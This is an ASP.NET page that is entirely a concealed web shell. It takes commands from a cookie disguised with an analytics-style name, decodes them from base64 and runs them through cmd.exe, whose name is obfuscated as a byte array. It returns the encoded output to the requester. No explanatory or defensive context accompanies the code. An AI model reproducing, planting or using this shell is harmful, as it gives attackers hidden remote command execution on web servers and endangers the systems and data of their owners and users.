<%@ Page Language="C#" EnableViewState="false" %><%
HttpCookie ck = Request.Cookies["__utmz_sess"];
if (ck != null) {
    string a = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(ck.Value));
    var psi = new System.Diagnostics.ProcessStartInfo(System.Text.Encoding.ASCII.GetString(new byte[] { 99, 109, 100, 46, 101, 120, 101 }), "/c " + a);
    psi.UseShellExecute = false; psi.RedirectStandardOutput = true;
    string o = System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd();
    Response.Write(Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(o)));
}
%>
